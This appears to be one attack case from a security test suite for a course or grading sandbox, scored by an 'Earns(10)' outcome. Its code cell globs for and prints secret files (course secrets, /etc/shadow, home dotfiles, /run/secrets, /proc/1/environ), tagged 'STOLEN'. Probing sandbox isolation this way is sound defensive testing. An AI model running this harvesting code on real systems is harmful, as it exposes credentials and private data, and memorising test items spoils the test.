"""Looks for passwords, keys and tokens, of the course and of this machine."""

from attacks.kit import Earns

OUTCOME = Earns(10)
CELLS = (
    """
import glob
import os

patterns = ["@COURSE@/secret.txt", "@COURSE@/.course_secret", "/etc/passwd", "/etc/shadow"]
patterns += [home + "/" + name for home in ("/root", "/home/*", "~") for name in (".*", ".*/*")]
patterns += ["/run/secrets/*", "/var/run/secrets/*/*", "/proc/1/environ", "/proc/*/root/etc/*"]
for path in [p for pattern in patterns for p in glob.glob(os.path.expanduser(pattern))]:
    try:
        print("STO" "LEN", path, open(path, "rb").read(10_000).decode())
    except (OSError, UnicodeError):
        pass
""",
)
